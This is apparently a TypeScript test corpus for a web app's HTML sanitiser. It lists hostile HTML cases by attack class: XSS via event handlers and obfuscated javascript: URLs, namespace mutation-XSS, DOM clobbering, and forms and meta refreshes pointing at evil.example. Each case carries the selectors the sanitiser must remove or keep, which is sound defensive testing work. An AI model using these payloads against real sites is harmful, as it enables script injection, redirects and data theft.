// The sanitiser's corpus: hostile server HTML by attack class, judged the same in happy-dom, Chromium, Firefox and
// WebKit (shared/dom/html.corpus.test.ts; test/engines/*-sanitiser.engine.ts). The classes follow the ones DOMPurify's
// public test suite covers; every case here is the project's own. shared/dom/SANITISER.md says what the rules are.
//
// | class                | what it tries                                                         | cases                     |
// |----------------------|-----------------------------------------------------------------------|---------------------------|
// | document-clobbering  | an id/name that becomes a document or window property                  | doc-1 … doc-7             |
// | form-clobbering      | a control that shadows its form's DOM properties (the walk, the page)  | form-1 … form-40          |
// | namespace-mxss       | svg / math / foreignObject / annotation-xml / mglyph re-parenting     | ns-1 … ns-12              |
// | raw-text             | template, noscript, style, textarea, title, xmp, iframe, noembed…     | raw-1 … raw-14            |
// | url-schemes          | javascript:/data:/vbscript: with entities, whitespace, control chars  | url-1 … url-20            |
// | srcset               | a candidate list hiding a script or document URL                      | srcset-1 … srcset-5       |
// | attribute-names      | handlers in odd case or spelling, unknown attributes, slash syntax    | attr-1 … attr-12          |
// | is-attribute         | customised built-ins through is=                                      | is-1 … is-3               |
// | comments-cdata-pi    | comments, CDATA sections, processing instructions, bogus comments     | cmt-1 … cmt-8             |
// | nested-forms         | a form in a form, a form closed early, a field's form= reaching out   | nest-1 … nest-4           |
// | base-meta-link       | base, meta refresh / CSP, link stylesheet / preload                   | head-1 … head-6           |
// | embedded-content     | iframe srcdoc, object, embed, frame, portal, fencedframe              | embed-1 … embed-6         |
// | shadow-dom           | declarative shadow roots inside a fragment                            | shadow-1 … shadow-3       |
// | custom-elements      | sf-* widgets that act, unknown custom elements, sf-* URL settings     | ce-1 … ce-7               |
// | unicode-and-parser   | tag names that case-fold to others, self-closing raw-text, table text | parse-1 … parse-6         |
// | links-and-forms      | off-site links and forms, new-tab links, protocol-relative tricks     | link-1 … link-8           |
// | inline-style         | (project) what a style attribute may set                              | style-1 … style-10        |
// | id-references        | (project) for / form / list / aria-*, page forms around, page ids     | ref-1 … ref-10            |
// | bundle-layers        | (project) the bundle's fixed, topmost classes                         | layer-1 … layer-3         |
// | state-marks          | (project) the bundle's own state attributes, page-level tracking      | mark-1 … mark-7           |
//
// Every case is judged by the same invariants (sanitiser-corpus-page.ts): nothing that runs, loads or navigates, no
// foreign namespace, no sf-* tag but the five that only show, no reference or layer outside the fragment, stable when
// serialised and parsed again; plus the case's own `gone` (must match nothing) and `kept` (must match something:
// the corpus is not passed by a sanitiser that keeps nothing).

export type AttackClass =
  | 'document-clobbering'
  | 'form-clobbering'
  | 'namespace-mxss'
  | 'raw-text'
  | 'url-schemes'
  | 'srcset'
  | 'attribute-names'
  | 'is-attribute'
  | 'comments-cdata-pi'
  | 'nested-forms'
  | 'base-meta-link'
  | 'embedded-content'
  | 'shadow-dom'
  | 'custom-elements'
  | 'unicode-and-parser'
  | 'links-and-forms'
  | 'inline-style'
  | 'id-references'
  | 'bundle-layers'
  | 'state-marks';

export interface CorpusCase {
  id: string;
  class: AttackClass;
  html: string;
  /**
   * A selector that must match nothing in the target once the fragment is in. (An empty `form` names no form: the
   * bundle gives it to a control under a page form so that it joins none.)
   */
  gone?: string;
  /** Selectors (`, `-separated) that must each match something: what the fragment may show stays. */
  kept?: string;
}

/** Every payload calls this (the corpus page counts the calls): a case that ran anything shows as a count. */
const RUN = 'top.sfRan()';

const byClass = (cls: AttackClass, prefix: string, cases: Omit<CorpusCase, 'id' | 'class'>[]): CorpusCase[] =>
  cases.map((c, i) => ({ id: `${prefix}-${i + 1}`, class: cls, ...c }));

/** The DOM properties a form control may try to shadow (each is read by a sanitiser, a framework or the widgets). */
const FORM_PROPERTIES = [
  'attributes',
  'childNodes',
  'children',
  'firstChild',
  'lastChild',
  'nextSibling',
  'previousSibling',
  'nodeName',
  'nodeType',
  'localName',
  'tagName',
  'namespaceURI',
  'parentNode',
  'parentElement',
  'ownerDocument',
  'textContent',
  'innerHTML',
  'removeChild',
  'removeAttribute',
  'removeAttributeNode',
  'setAttribute',
  'getAttribute',
  'hasAttribute',
  'hasChildNodes',
  'insertBefore',
  'replaceWith',
  'remove',
  'querySelectorAll',
  'getElementsByTagName',
  'cloneNode',
  'submit',
  'acceptCharset',
  'elements',
  'action',
  'method',
  'length',
];

const FORM_SHAPES = (name: string) =>
  `<form action="https://evil.example/collect" onsubmit="${RUN}" style="position:fixed;inset:0"><input name="${name}">` +
  `<img src="/cdn/x.png" onload="${RUN}" onerror="${RUN}"><sf-async-section data-ajax-url="/evil-action" data-async-load-handle-id="1"></sf-async-section>` +
  `<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>kept text</p></form>`;

export const CORPUS: readonly CorpusCase[] = [
  ...byClass('document-clobbering', 'doc', [
    { html: '<img name="cookie" src="/cdn/a.png" alt="a">', gone: '[name]', kept: 'img' },
    { html: '<form id="getElementById"></form><form name="querySelector"></form>', gone: '[id], [name]' },
    { html: '<a id="location" href="/x">x</a><a name="URL" href="/y">y</a>', gone: '[id], [name]', kept: 'a' },
    {
      html: '<img name="body"><img name="activeElement"><img id="defaultView"><img id="createElement">',
      gone: '[id], [name]',
    },
    {
      html: '<div id="dataLayer"></div><img name="trustedTypes"><p id="requestIdleCallback">p</p><b id="scheduler">b</b>',
      gone: '[id], [name]',
    },
    {
      html: '<img name="forms"><img name="images"><img name="currentScript"><img name="implementation">',
      gone: '[name]',
    },
    {
      html: '<img id="sf-product-image" src="/cdn/a.png" alt=""><form name="sf-quick-add"></form>',
      kept: '#sf-product-image, form[name="sf-quick-add"]',
    },
  ]),
  ...byClass('form-clobbering', 'form', [
    ...FORM_PROPERTIES.map((name) => ({
      html: FORM_SHAPES(name),
      gone: '[onload], [onerror], [onsubmit], sf-async-section, meta, form[action*="evil"], [style*="fixed"]',
    })),
    { html: `<form><button name="attributes">b</button><img src="x" onerror="${RUN}"></form>`, gone: '[onerror]' },
    {
      html: `<form><select name="childNodes"><option>o</option></select><img src="x" onerror="${RUN}"></form>`,
      gone: '[onerror]',
    },
    { html: `<form><input id="attributes"><input id="childNodes"><b onclick="${RUN}">b</b></form>`, gone: '[onclick]' },
    {
      html: `<form><input name="x"><input name="x"><img name="nodeType" src="x" onerror="${RUN}"><fieldset name="parentNode"><output name="localName"></output></fieldset></form>`,
      gone: '[onerror], [name="nodeType"], [name="parentNode"], [name="localName"]',
    },
  ]),
  ...byClass('namespace-mxss', 'ns', [
    { html: `<p>before</p><svg><script>${RUN}</script></svg>`, gone: 'svg, script', kept: 'p' },
    { html: `<svg><foreignObject><img src="x" onerror="${RUN}"></foreignObject></svg>`, gone: 'svg, img' },
    { html: `<math><mtext><table><mglyph><style><img src="x" onerror="${RUN}">` },
    { html: `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">` },
    {
      html: `<math><annotation-xml encoding="text/html"><img src="x" onerror="${RUN}"></annotation-xml></math>`,
      gone: 'math, img',
    },
    { html: `<math><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=${RUN}>">` },
    { html: `<svg><desc><img src="x" onerror="${RUN}"></desc></svg>` },
    { html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>` },
    { html: `<math><malignmark><style><img src=x onerror=${RUN}></style></malignmark></math>` },
    {
      html: `<svg><a href="javascript:${RUN}"><text x="1" y="1">t</text></a><animate attributeName="href" values="javascript:${RUN}"/></svg>`,
    },
    { html: `<table><caption><svg><style><img src=x onerror=${RUN}>` },
    { html: `<div><svg><title><img src=x onerror=${RUN}></title></svg></div><p>p</p>`, kept: 'p' },
  ]),
  ...byClass('raw-text', 'raw', [
    { html: `<template><img src="x" onerror="${RUN}"></template><p>p</p>`, gone: 'template', kept: 'p' },
    { html: `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>` },
    { html: `<style>body{display:none}</style><p>p</p>`, gone: 'style', kept: 'p' },
    { html: `<textarea></textarea><img src=x onerror=${RUN}>`, gone: '[onerror]', kept: 'textarea' },
    { html: `<textarea><img src=x onerror=${RUN}></textarea>`, kept: 'textarea' },
    { html: `<title><img src=x onerror=${RUN}></title>`, gone: 'title' },
    { html: `<xmp><img src=x onerror=${RUN}></xmp>`, gone: 'xmp' },
    { html: `<iframe><img src=x onerror=${RUN}></iframe>`, gone: 'iframe' },
    { html: `<noembed><img src=x onerror=${RUN}></noembed>`, gone: 'noembed' },
    { html: `<noframes><img src=x onerror=${RUN}></noframes>`, gone: 'noframes' },
    { html: `<plaintext><img src=x onerror=${RUN}>`, gone: 'plaintext' },
    { html: `<select><option><style></option></select><img src=x onerror=${RUN}></style>` },
    {
      html: `<select><template><style><img src=x onerror=${RUN}></style></template></select>`,
      gone: 'template, style',
    },
    {
      html: `<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=${RUN}>o</option></select>`,
      gone: 'selectedcontent, [onerror]',
    },
  ]),
  ...byClass('url-schemes', 'url', [
    { html: `<a href="javascript:${RUN}">a</a>`, gone: '[href]', kept: 'a' },
    { html: `<a href="&#x6A;avascript:${RUN}">a</a>`, gone: '[href]' },
    { html: `<a href="jav&#x09;ascript:${RUN}">a</a>`, gone: '[href]' },
    { html: `<a href="jav&#x0A;asc&#x0D;ript:${RUN}">a</a>`, gone: '[href]' },
    { html: `<a href="&#x00;javascript:${RUN}">a</a><a href="java&#x00;script:${RUN}">b</a>`, kept: 'a' },
    { html: `<a href=" \u0001 javascript:${RUN}">a</a>`, gone: '[href]' },
    { html: `<a href="javascript&colon;${RUN}">a</a>`, gone: '[href]' },
    { html: `<a href="JaVaScRiPt:${RUN}">a</a>`, gone: '[href]' },
    { html: `<a href="\u2028javascript:${RUN}">a</a><a href="\u2029javascript:${RUN}">b</a>`, gone: '[href]' },
    { html: `<a href="\u00a0javascript:${RUN}">a</a><a href="\ufeffjavascript:${RUN}">b</a>`, gone: '[href]' },
    { html: `<a href="vbscript:msgbox(1)">a</a>`, gone: '[href]' },
    { html: '<a href="data:text/html,<script>top.sfRan()</script>">a</a>', gone: '[href]' },
    { html: `<img src="javascript:${RUN}" alt="i">`, gone: '[src]', kept: 'img' },
    { html: '<img src="data:image/svg+xml,<svg onload=top.sfRan()>" alt="">', gone: '[src]' },
    { html: '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">', kept: 'img[src^="data:image/png"]' },
    {
      html: `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">b</button></form>`,
      gone: '[action], [formaction]',
    },
    { html: `<blockquote cite="javascript:${RUN}">q</blockquote><del cite="vbscript:x">d</del>`, gone: '[cite]' },
    {
      html: `<div data-ajax-url="javascript:${RUN}" data-zoom-src="javascript:${RUN}" data-product-href="//evil.example/">d</div>`,
      gone: '[data-ajax-url], [data-zoom-src], [data-product-href]',
    },
    { html: `<button product-url="javascript:${RUN}">b</button>`, gone: '[product-url]' },
    { html: '<a href="/x\\\\evil.example">a</a><a href="/\\evil.example/">b</a>', kept: 'a' },
  ]),
  ...byClass('srcset', 'srcset', [
    { html: `<img srcset="javascript:${RUN} 1x" alt="">`, gone: '[srcset]' },
    { html: '<img srcset="/cdn/a.png 1x, data:text/html,x 2x" alt="">', gone: '[srcset]' },
    { html: '<img srcset="/cdn/a.png 1x,javascript:top.sfRan() 2x" alt="">', gone: '[srcset]' },
    {
      html: '<img srcset="/cdn/a.png 480w, /cdn/b.png 960w" sizes="(max-width: 600px) 480px, 960px" src="/cdn/a.png" alt="">',
      kept: 'img[srcset][sizes]',
    },
    { html: '<img data-srcset="javascript:x 1x" data-src="vbscript:x" alt="">', gone: '[data-srcset], [data-src]' },
  ]),
  ...byClass('attribute-names', 'attr', [
    { html: `<img/src="x"/onerror="${RUN}">`, gone: '[onerror]' },
    { html: `<p ONCLICK="${RUN}" oNmOuSeOvEr="${RUN}">p</p>`, gone: '[onclick], [onmouseover]', kept: 'p' },
    { html: `<img src=\`x\`onerror=${RUN}>`, gone: '[onerror]' },
    { html: `<p title="</p><img src=x onerror=${RUN}>">p</p>`, kept: 'p[title]' },
    {
      html: `<div srcdoc="<script>${RUN}</script>" formaction="javascript:x" xlink:href="javascript:x">d</div>`,
      gone: '[srcdoc], [formaction]',
    },
    { html: '<p data-="x" data-a<b="y" data-ok="1">p</p>', kept: '[data-ok]' },
    { html: `<details open ontoggle="${RUN}"><summary>s</summary></details>`, gone: '[ontoggle]', kept: 'details' },
    { html: `<input autofocus onfocus="${RUN}">`, gone: '[onfocus]' },
    {
      html: `<video poster="javascript:${RUN}"><source src="javascript:${RUN}"></video><audio src="x" onerror="${RUN}"></audio>`,
      gone: 'video, audio, source, [onerror]',
    },
    { html: `<p style="x" on="${RUN}" onx="${RUN}" on-click="${RUN}">p</p>`, gone: '[on], [onx], [on-click]' },
    { html: `<input type="image" src="javascript:${RUN}" formaction="/x">`, gone: '[src^="javascript"], [formaction]' },
    {
      html: `<area href="javascript:${RUN}"><map name="m"><area shape="rect" href="javascript:${RUN}"></map>`,
      gone: 'area, map',
    },
  ]),
  ...byClass('is-attribute', 'is', [
    { html: '<p is="sf-async-section">p</p>', gone: '[is]', kept: 'p' },
    { html: `<button is="x-evil" onclick="${RUN}">b</button>`, gone: '[is], [onclick]', kept: 'button' },
    { html: '<div is="sf-listing" data-widget-ajax-url="/x"><span>s</span></div>', gone: '[is]', kept: 'span' },
  ]),
  ...byClass('comments-cdata-pi', 'cmt', [
    { html: `<p>a<!-- <img src=x onerror=${RUN}> -->b</p>`, kept: 'p' },
    { html: `<!--><img src=x onerror=${RUN}>-->`, gone: '[onerror]' },
    { html: `<!-- --!><img src=x onerror=${RUN}>-->`, gone: '[onerror]' },
    { html: `<![CDATA[<img src=x onerror=${RUN}>]]>`, gone: '[onerror]' },
    { html: '<?xml-stylesheet href="https://evil.example/x.xsl"?><p>p</p>', kept: 'p' },
    { html: `<svg><![CDATA[</svg><img src=x onerror=${RUN}>]]></svg>`, gone: '[onerror]' },
    { html: '</x title="<img src=x onerror=top.sfRan()>"><p>p</p>', kept: 'p' },
    { html: '<!DOCTYPE html><p>p</p>', kept: 'p' },
  ]),
  ...byClass('nested-forms', 'nest', [
    {
      html: '<form action="/a"><form action="https://evil.example/"><input name="q"></form></form>',
      gone: 'form form, [action*="evil"]',
    },
    { html: '<form id="mine"><div></form><input form="mine" name="q">', kept: 'form#mine' },
    {
      html: `<form><table><form action="https://evil.example/"><tr><td><input name="q" onfocus="${RUN}"></td></tr></form></table></form>`,
      gone: '[action*="evil"], [onfocus]',
    },
    { html: '<a href="/a"><a href="/b">b</a></a>', gone: 'a a' },
  ]),
  ...byClass('base-meta-link', 'head', [
    { html: '<base href="https://evil.example/"><a href="x">a</a>', gone: 'base' },
    { html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">', gone: 'meta' },
    { html: '<meta http-equiv="Content-Security-Policy" content="script-src *">', gone: 'meta' },
    {
      html: '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="preload" as="script" href="/x.js">',
      gone: 'link',
    },
    {
      html: '<head><base href="javascript:/a/-top.sfRan()///"></head><body><a href="../b">b</a></body>',
      gone: 'base, head, body',
    },
    { html: '<html manifest="/evil.appcache"><p>p</p></html>', gone: 'html', kept: 'p' },
  ]),
  ...byClass('embedded-content', 'embed', [
    { html: `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`, gone: 'iframe' },
    { html: `<object data="javascript:${RUN}"><param name="x" value="y"></object>`, gone: 'object, param' },
    { html: '<embed src="/x.swf" type="application/x-shockwave-flash">', gone: 'embed' },
    { html: '<frameset><frame src="javascript:top.sfRan()"></frameset>', gone: 'frameset, frame' },
    { html: '<portal src="https://evil.example/"></portal><fencedframe></fencedframe>', gone: 'portal, fencedframe' },
    { html: '<applet code="x.class"></applet>', gone: 'applet' },
  ]),
  ...byClass('shadow-dom', 'shadow', [
    { html: `<div><template shadowrootmode="open"><img src="x" onerror="${RUN}"></template></div>`, gone: 'template' },
    {
      html: `<div><template shadowrootmode="closed"><slot></slot></template><img src=x onerror=${RUN}></div>`,
      gone: 'template, [onerror]',
    },
    {
      html: `<p><template shadowroot="open"><style>*{display:none}</style></template>p</p>`,
      gone: 'template',
      kept: 'p',
    },
  ]),
  ...byClass('custom-elements', 'ce', [
    {
      html: '<sf-async-section data-ajax-url="/evil-action" data-async-load-handle-id="1"><p>shown</p></sf-async-section>',
      gone: 'sf-async-section',
      kept: 'p',
    },
    { html: '<sf-listing data-widget-ajax-url="/x"><ul><li>i</li></ul></sf-listing>', gone: 'sf-listing', kept: 'li' },
    {
      html: '<sf-cart-page></sf-cart-page><sf-header></sf-header><sf-status-bar></sf-status-bar>',
      gone: 'sf-cart-page, sf-header, sf-status-bar',
    },
    {
      html: '<sf-product-carousel data-interval="5000"><p>slide</p></sf-product-carousel>',
      kept: 'sf-product-carousel p',
    },
    {
      html: '<sf-product-qr data-product-url="/x/..//evil.example/"></sf-product-qr>',
      gone: '[data-product-url]',
      kept: 'sf-product-qr',
    },
    { html: `<x-foo onclick="${RUN}"><b>b</b></x-foo>`, gone: 'x-foo', kept: 'b' },
    {
      html: '<sf-product-gallery data-zoom-src="javascript:x"><img src="/cdn/a.png" alt=""></sf-product-gallery>',
      gone: '[data-zoom-src]',
      kept: 'sf-product-gallery img',
    },
  ]),
  ...byClass('unicode-and-parser', 'parse', [
    { html: `<ſcript>${RUN}</ſcript><p>p</p>`, kept: 'p' },
    { html: `<ımg src=x onerror=${RUN}>`, gone: '[onerror]' },
    { html: `<style/><img src=x onerror=${RUN}>`, gone: 'style, [onerror]' },
    { html: `<scr<script>ipt>${RUN}</scr</script>ipt>`, gone: 'script' },
    { html: `<table><tr><td>a</td></tr><img src=x onerror=${RUN}></table>`, gone: '[onerror]', kept: 'td' },
    { html: `<img src="x\` \`<script>${RUN}</script>"\` \`>`, gone: 'script' },
  ]),
  ...byClass('links-and-forms', 'link', [
    { html: '<a href="https://maker.example/where-to-buy">buy</a>', kept: 'a[data-sf-external-link][rel~="noopener"]' },
    { html: '<a href="/doc" target="_blank">doc</a>', kept: 'a[target="_blank"][rel~="noopener"]' },
    { html: '<a href="/x" target="evil-frame">x</a>', gone: '[target]' },
    { html: '<a href="//evil.example/x">x</a><a href="/\\evil.example/y">y</a>', kept: 'a' },
    { html: '<a href="https:evil.example">x</a><a href="http:/evil.example">y</a>', kept: 'a' },
    { html: '<form action="//evil.example/x"><input name="q"></form>', gone: '[action]' },
    {
      html: '<form action="/search"><button formaction="https://evil.example/" formmethod="get">b</button></form>',
      gone: '[formaction]',
      kept: 'form[action="/search"]',
    },
    {
      html: '<a href="mailto:shop@example.com">m</a><a href="tel:+15145550000">t</a>',
      kept: 'a[href^="mailto"], a[href^="tel"]',
    },
  ]),
  ...byClass('inline-style', 'style', [
    { html: '<p style="position:fixed;inset:0;z-index:2147483647">p</p>', gone: '[style*="position"]', kept: 'p' },
    { html: '<p style="color:red;margin:-200px">p</p>', kept: 'p[style*="color"]' },
    { html: '<p style="width:expression(top.sfRan())">p</p>', gone: '[style]' },
    { html: '<p style="background:url(javascript:top.sfRan())">p</p>', gone: '[style]' },
    { html: '<p style="background-image:url(https://cdn.example/x.png)">p</p>', kept: 'p[style*="url"]' },
    { html: '<p style="\\70 osition:fixed">p</p>', gone: '[style]' },
    { html: '<p style="color:red;/**/position:fixed">p</p>', gone: '[style*="position"]' },
    { html: '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#y)">p</p>', gone: '[style]' },
    { html: '<p style="width:calc(100vw + 10px);height:var(--x)">p</p>', gone: '[style]' },
    { html: '<p style="font-family:\'a;position:fixed\'">p</p>', gone: '[style*="position"]' },
  ]),
  ...byClass('id-references', 'ref', [
    {
      html: '<i id="f" hidden></i><button form="f" formaction="/search" formmethod="get">See more</button>',
      gone: '[form]:not([form=""]), [formaction], [formmethod]',
      kept: 'button',
    },
    { html: '<b id="f"></b><input type="hidden" form="f" name="ShipToId" value="9">', gone: '[form]:not([form=""])' },
    { html: '<i id="place-order"></i><label for="place-order">Free gift</label>', gone: '[for]', kept: 'label' },
    {
      html: '<i id="title"></i><p aria-labelledby="title" aria-describedby="title" aria-owns="title" aria-activedescendant="title" aria-controls="title">p</p>',
      gone: '[aria-labelledby], [aria-describedby], [aria-owns], [aria-activedescendant], [aria-controls]',
    },
    {
      html: '<button form="f">b</button><label for="place-order">l</label><input list="title">',
      gone: '[form]:not([form=""]), [for], [list]',
    },
    {
      html: '<form id="mine" action="/search"><label for="q">Q</label><input id="q" aria-describedby="hint"><button formmethod="get">Go</button></form><p id="hint">h</p>',
      kept: 'label[for="q"], [aria-describedby="hint"], button[formmethod]',
    },
    {
      // An island that re-renders its children (it copies them when it connects) must render the checked copy.
      html: '<sf-product-carousel><h2>You may also like</h2><i id="f" hidden></i><button form="f" formaction="/search" formmethod="get">See more</button><i id="place-order"></i><label for="place-order">Free gift</label></sf-product-carousel>',
      gone: '[form="f"], [formaction], [formmethod], [for]',
      kept: 'h2, button, label',
    },
    {
      // Under a page form (ASP.NET WebForms wraps the body in one) its fields would be submitted with the page's.
      html: '<input type="hidden" name="PromoCode" value="STAFF100"><input name="Note"><button>Show offers</button><input type="submit" value="Go">',
      kept: 'input[name="PromoCode"], button',
    },
    {
      // Ids the page has (above and below the fragment) or the bundle writes later.
      html: '<p id="title">t</p><p id="email">e</p><span id="email-error">m</span><span id="sf-id-1">s</span><span id="q-counter">c</span><p aria-labelledby="email">l</p>',
      gone: '#title, #email, #email-error, #sf-id-1, #q-counter, [aria-labelledby]',
      kept: 'span',
    },
    {
      html: '<p aria-actions="place-order" aria-errormessage="title" aria-details="title" aria-flowto="title">p</p>',
      gone: '[aria-actions], [aria-errormessage], [aria-details], [aria-flowto]',
    },
  ]),
  ...byClass('bundle-layers', 'layer', [
    {
      html: '<label class="sf-preview-toggle"><img src="data:image/png;base64,iVBORw0KGgo=" width="4000" height="3000" alt=""></label>',
      gone: '.sf-preview-toggle',
      kept: 'label img',
    },
    {
      html: '<div class="sf-overlay sf-listing__back-to-top is-visible">x</div>',
      gone: '.sf-overlay, .sf-listing__back-to-top',
      kept: '.is-visible',
    },
    {
      html: '<div class="sf-status-bar sf-ehf-popover sf-product">x</div>',
      gone: '.sf-status-bar, .sf-ehf-popover',
      kept: '.sf-product',
    },
  ]),
  ...byClass('state-marks', 'mark', [
    {
      html: '<form data-sf-unsaved-warning data-sf-changed="true"><input name="q"></form>',
      gone: '[data-sf-changed]',
      kept: '[data-sf-unsaved-warning]',
    },
    {
      html: '<div data-sf-track="purchase" data-sf-track-order=\'{"Code":"X1","Total":4999}\'></div>',
      gone: '[data-sf-track], [data-sf-track-order]',
    },
    {
      html: '<div data-sf-track="view_item_list"><p data-sf-track-product=\'{"Code":"A"}\'>a</p></div>',
      kept: '[data-sf-track="view_item_list"]',
    },
    {
      html: '<div data-sf-island data-sf-asleep data-sf-preview-active data-sf-edit="x">d</div>',
      gone: '[data-sf-island], [data-sf-asleep], [data-sf-preview-active], [data-sf-edit]',
    },
    {
      html: '<div data-sf-track="begin_checkout"></div><div data-sf-track="view_cart"></div>',
      gone: '[data-sf-track]',
    },
    {
      html: '<section data-sf-track-click="purchase" data-sf-track-product=\'{"Code":"GIFT","Title":"Gift card","Price":4999,"Quantity":1}\'><button type="button">Offers</button></section><p data-sf-track-click="begin_checkout">b</p>',
      gone: '[data-sf-track-click]',
      kept: 'section, button',
    },
    {
      html: '<div data-sf-server-html data-sf-kept="k" data-sf-track-shipping="{}">d</div>',
      gone: '[data-sf-server-html], [data-sf-kept], [data-sf-track-shipping]',
    },
  ]),
];

/** The classes of DOMPurify's public suite this corpus must cover, each with at least one case. */
export const REQUIRED_CLASSES: readonly AttackClass[] = [
  'document-clobbering',
  'form-clobbering',
  'namespace-mxss',
  'raw-text',
  'url-schemes',
  'srcset',
  'attribute-names',
  'is-attribute',
  'comments-cdata-pi',
  'nested-forms',
  'base-meta-link',
  'embedded-content',
  'shadow-dom',
  'custom-elements',
  'unicode-and-parser',
  'links-and-forms',
  'inline-style',
  'id-references',
  'bundle-layers',
  'state-marks',
];
